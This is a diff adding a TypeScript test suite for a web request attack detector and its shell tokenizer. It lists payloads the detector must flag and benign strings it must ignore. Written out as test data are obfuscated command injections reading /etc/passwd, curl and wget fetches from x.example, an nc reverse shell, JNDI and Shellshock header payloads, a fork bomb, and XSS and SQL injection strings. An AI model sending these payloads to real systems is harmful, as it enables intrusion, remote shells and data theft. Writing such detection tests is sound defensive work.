@@ -1,0 +1,177 @@
+/**
+ * The language readers of detection (docs/detection.md): the shell reader (shell-tokens.ts) as
+ * examples of what it reads, then values through AttackDetector: each attack with the class it
+ * must give, and benign look-alikes that must give nothing. Values are written decoded; `q` puts
+ * them in a query argument, `ref` in the Referer, `ua` in the User-Agent, `form` in a form field.
+ */
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { AttackDetector } from '../../../node/analysis/attacks';
+import { MAX_SHELL_CHARS, readShell } from '../../../node/analysis/attacks/detectors/shell-tokens';
+import type { AttackClass } from '../../../node/records/types';
+import { RELAXED, tx, type TxSpec } from './helpers';
+
+const HOST: [string, string] = ['Host', 'shop.example'];
+type Where = 'q' | 'ref' | 'ua' | 'form' | 'accept' | 'auth';
+
+function spec(where: Where, v: string): TxSpec {
+  switch (where) {
+    case 'q':
+      return { target: '/search?q=' + encodeURIComponent(v) };
+    case 'ref':
+      return { target: '/', headers: [HOST, ['Referer', 'https://x.example/?a=' + encodeURIComponent(v)]] };
+    case 'ua':
+      return { target: '/', headers: [HOST, ['User-Agent', v]] };
+    case 'accept':
+      return { target: '/', headers: [HOST, ['Accept', v]] };
+    case 'auth':
+      return { target: '/', headers: [HOST, ['Authorization', v]] };
+    case 'form':
+      return {
+        method: 'POST',
+        target: '/submit',
+        headers: [HOST, ['Content-Type', 'application/x-www-form-urlencoded']],
+        body: 'text=' + encodeURIComponent(v),
+      };
+  }
+}
+
+const detector = new AttackDetector(RELAXED);
+const classes = (where: Where, v: string): AttackClass[] => detector.detect(tx(spec(where, v)))?.hits.map((h) => h.class) ?? [];
+
+/** What the shell reader makes of a value: each command as `began: word word...` (+ `obfuscated`). */
+function commands(v: string): string[] {
+  return readShell(v).commands.map((c) => `${c.began}: ${c.words.join(' ')}${c.obfuscated ? ' (obfuscated)' : ''}`);
+}
+
+const READINGS: Array<[string, string[]]> = [
+  ['127.0.0.1;cat /etc/passwd', ['start: 127.0.0.1', 'separator: cat /etc/passwd']],
+  ["wh''oami", ['start: whoami (obfuscated)']],
+  ['w\\ho\\am\\i', ['start: whoami (obfuscated)']],
+  // A name that comes out of an expansion counts as spelled to hide it.
+  ['cat${IFS}/etc/passwd', ['start: cat /etc/passwd (obfuscated)']],
+  ['cat$IFS$9/etc/passwd', ['start: cat /etc/passwd (obfuscated)']],
+  ['{cat,/etc/passwd}', ['start: cat /etc/passwd (obfuscated)']],
+  ['x=$(id)', ['substitution: id']],
+  ['a`uname -a`b', ['substitution: uname -a', 'start: ab (obfuscated)']],
+  ["CMD=$'\\x69\\x64';$CMD", ['separator: id (obfuscated)']],
+  ['c=cat;f=/etc/passwd;$c $f', ['separator: cat /etc/passwd (obfuscated)']],
+  ['cat ${PATH:0:1}etc${PATH:0:1}passwd', ['start: cat /etc/passwd']],
+  ['ping -c 1 127.0.0.1 2>&1 >/dev/null', ['start: ping -c 1 127.0.0.1']],
+  ['"quoted search"', ['start: quoted search']],
+  ['Install it:\n```sh\nnpm install x\n```', ['start: Install it:', 'separator: npm install x']],
+];
+
+for (const [value, expected] of READINGS) {
+  test(`shell reader: ${JSON.stringify(value)}`, () => assert.deepEqual(commands(value), expected));
+}
+
+test('shell reader: a long value is read at both ends and says so', () => {
+  const r = readShell('A'.repeat(3 * MAX_SHELL_CHARS) + ';cat /etc/passwd');
+  assert.equal(r.truncated, true);
+  assert.deepEqual(
+    r.commands.map((c) => c.words.join(' ')),
+    ['A'.repeat(MAX_SHELL_CHARS / 2), 'A'.repeat(MAX_SHELL_CHARS / 2 - 16), 'cat /etc/passwd'],
+  );
+});
+
+test('a long value counts caps.script_chars', () => {
+  const d = new AttackDetector(RELAXED);
+  const r = d.detect(tx(spec('form', 'A'.repeat(3 * MAX_SHELL_CHARS) + ';cat /etc/passwd')));
+  assert.ok(r?.hits.some((h) => h.class === 'rce'));
+  assert.equal(d.counters.caps.script_chars, 1);
+});
+
+const ATTACKS: Array<[string, AttackClass, Where, string]> = [
+  // Shell: a command name spelled to dodge filters needs no separator.
+  ['quotes inside a command name', 'rce', 'q', "wh''oami"],
+  ['backslashes inside a command name', 'rce', 'q', 'w\\ho\\am\\i'],
+  ['a quoted first letter', 'rce', 'q', "'i'fconfig"],
+  ['an empty substitution inside a name', 'rce', 'q', 'ping$() 127.0.0.1'],
+  ['empty backticks inside a name', 'rce', 'q', 'pi``ng 127.0.0.1'],
+  ['a brace list of command and argument', 'rce', 'q', '{cat,/etc/passwd}'],
+  ['a brace list after a separator', 'rce', 'q', ';{curl,http://x.example/a.sh};'],
+  ['a glob for a binary', 'rce', 'q', 'x;/bin/ca? /et*/passwd'],
+  ['a bracket glob in a binary path', 'rce', 'q', '/usr/bin/[u]name -a'],
+  ['variables assembled into a command', 'rce', 'q', 'a=/etc&&b=/passwd&&c=cat&&$c $a$b'],
+  ['ANSI-C quoted command in a variable', 'rce', 'q', ";CMD=$'\\x69\\x64';$CMD"],
+  ['an unset variable glued inside words', 'rce', 'ref', 'foo;cat$u /etc$u/passwd'],
+  ['breaking out of a quoted argument', 'rce', 'q', "';echo md5(TestPoc);'"],
+  ['$IFS then text, in a substitution', 'rce', 'q', '$(/bin/wget$IFShttp://x.example/a)'],
+  ['command substitution in a parameter', 'rce', 'q', '${`id`}'],
+  ['sqlite shell command', 'rce', 'q', ';\n.shell nc 10.0.0.1 6666 -e sh'],
+  ['a wrapper running a command', 'rce', 'q', ';time sh -c whoami'],
+  ['a program by its path', 'rce', 'q', '/usr/bin/id'],
+  ['a known command on a system file', 'rce', 'q', 'cat /etc/passwd'],
+  ['a Windows listing', 'rce', 'q', '&& | dir c:\\'],
+  ['a cmd.exe variable', 'rce', 'q', 'echo %USERNAME%'],
+  ['cmd.exe IF with a comparison', 'rce', 'q', 'if not (2 equ 2) echo hey'],
+  ['cmd.exe FOR', 'rce', 'q', 'for %variable in (set) do command'],
+  ['a fork bomb', 'rce', 'q', ':(){ :|:& };:'],
+  ['old arithmetic', 'rce', 'q', '$[2+2]'],
+  ['padding before the payload', 'rce', 'form', 'A'.repeat(20000) + ';cat /etc/passwd'],
+  ['JNDI in the User-Agent', 'rce', 'ua', '${${lower:j}ndi:dns://x.example/a}'],
+  ['JNDI in Authorization', 'rce', 'auth', 'Bearer ${jnd${upper:i}:ldap://x.example/a}'],
+  ['shellshock in Accept', 'rce', 'accept', '() { :;}; /bin/bash -c id'],
+  ['shellshock with here-documents in Accept', 'rce', 'accept', '() { 0 <<a <<b; } bash -c id'],
+  // JavaScript without tags.
+  ['short JSFuck', 'xss', 'q', '+!![]'],
+  ['JSFuck coercion of an object', 'xss', 'q', '(+{}+[])'],
+  ['a sink name joined from strings', 'xss', 'q', "a=0||'ev'+'al'||0;b=location.hash;c=window[a];c(b)"],
+  ['javascript: spelled over several variables', 'xss', 'q', "s1='jav';s2='ascr';s3='ipt:';u=s1+s2+s3;URL=u"],
+  ['regex sources joined', 'xss', 'ref', 'a=/ev/.source;a+=/al/.source;a[a](name)'],
+  ['a computed call on a number', 'xss', 'q', '1[__+_](_+___)'],
+  ['a timer fed by the URL', 'xss', 'q', 'setTimeout(location.search.slice(1))'],
+  ['eval of window.name', 'xss', 'ref', 'eval(name)'],
+  // SQL statements and fragments.
+  ['ORDER BY a delay', 'sqli', 'q', 'ORDER BY SLEEP(5)--'],
+  ['an always-false OR', 'sqli', 'q', ' OR 1=0'],
+  ['quotes without spaces', 'sqli', 'q', "'OR'a'='a"],
+  ['waitfor after a closed parenthesis', 'sqli', 'q', "1));waitfor delay '0:0:5'--"],
+  ['waitfor after a double quote', 'sqli', 'q', "1\";waitfor delay '0:0:5'--"],
+  ['a subquery selecting CASE in parentheses', 'sqli', 'q', "1')))(select (case when (5451=5451) then 1 else 0 end) from dual)"],
+  [
+    'a subquery concatenated to strings',
+    'sqli',
+    'q',
+    "select 'qq'||(case 5118 when 5118 then 1 else 0 end)||'zz' from rdb$database",
+  ],
+  ['dynamic SQL from a variable', 'sqli', 'q', '0x77616974666F72 exec(@s)'],
+  ['reading a system catalogue', 'sqli', 'q', '1 union select name from sqlite_master--'],
+];
+
+const BENIGN: Array<[string, Where, string]> = [
+  ['a quoted search term', 'q', '"ping"'],
+  ['a name with an apostrophe', 'q', "O'Neil's shop"],
+  ['a sentence with a pipe', 'q', 'Tom | Jerry cat lovers'],
+  ['parentheses in documentation', 'form', "- it's full reference (id)"],
+  ['a method in a heading', 'form', '#### ast.isProblematicIfStatement(node)'],
+  ['a Markdown link to a package', 'form', '[tar](http://npm.im/tar) and [node-tar](http://npm.im/tar)'],
+  ['a Markdown code block', 'form', 'Install it:\n```sh\nnpm install --save-dev @babel/parser\n```'],
+  ['a shell word in a sentence', 'q', 'Use the cat command to print files'],
+  ['an empty JSON list', 'q', '[]'],
+  ['an empty JSON object', 'q', '{}'],
+  ['a JSON list of words', 'q', '["java","script"]'],
+  ['quoted words in prose', 'q', "It's 'eval' and \"alert\" in one sentence"],
+  ['string concatenation', 'form', '"Hello " + name + "!"'],
+  ['a footnote number', 'q', 'price: 1[0] (approx)'],
+  ['a call through a local table', 'form', 'items[0](x)'],
+  ['a date range', 'q', '2024-01-01 - 2024-12-31'],
+  ['a URL', 'q', 'https://example.com/a/b?c=d'],
+  ['a browser Accept header', 'accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
+  ['a bearer token', 'auth', 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc'],
+  ['a sentence with case, when and then', 'q', 'In case 5 when you are done then call me'],
+  ['prose naming a catalogue', 'q', 'we store settings in sqlite_master table'],
+];
+
+for (const [name, cls, where, v] of ATTACKS) {
+  test(`${cls}: ${name}`, () =>
+    assert.ok(
+      classes(where, v).includes(cls),
+      `${where} ${JSON.stringify(v.slice(0, 80))} gave ${classes(where, v).join(',') || 'nothing'}`,
+    ));
+}
+
+for (const [name, where, v] of BENIGN) {
+  test(`benign: ${name}`, () => assert.deepEqual(classes(where, v), [], `${where} ${JSON.stringify(v)}`));
+}
